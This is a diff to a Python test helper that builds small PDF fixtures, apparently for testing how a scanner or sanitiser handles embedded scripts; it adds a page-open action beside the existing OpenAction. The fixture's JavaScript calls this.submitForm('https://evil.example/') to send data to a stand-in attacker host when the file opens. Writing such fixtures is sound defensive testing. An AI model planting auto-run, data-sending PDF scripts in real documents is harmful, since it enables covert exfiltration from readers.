@@ -26,14 +26,17 @@ def jpeg_bytes(size=(800, 500), colour=(200, 60, 40)) -> bytes:
     return out.getvalue()
 
 
-def pdf_bytes(text: bytes = SECRET_TEXT, javascript: bool = False) -> bytes:
-    """A small valid PDF whose page stream holds ``text`` in clear; optionally with an OpenAction script."""
+def pdf_bytes(text: bytes = SECRET_TEXT, javascript: bool = False, page_script: bool = False) -> bytes:
+    """A small valid PDF whose page stream holds ``text`` in clear; optionally with a script run when it opens
+    (the catalogue's OpenAction) or when its page opens (the page's additional actions)."""
     stream = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
     action = b" /OpenAction 5 0 R" if javascript else b""
     objects = [
         b"<< /Type /Catalog /Pages 2 0 R" + action + b" >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
+        + (b" /AA << /O 5 0 R >>" if page_script else b"")
+        + b" >>",
         b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
         b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('https://evil.example/')) >>",
     ]
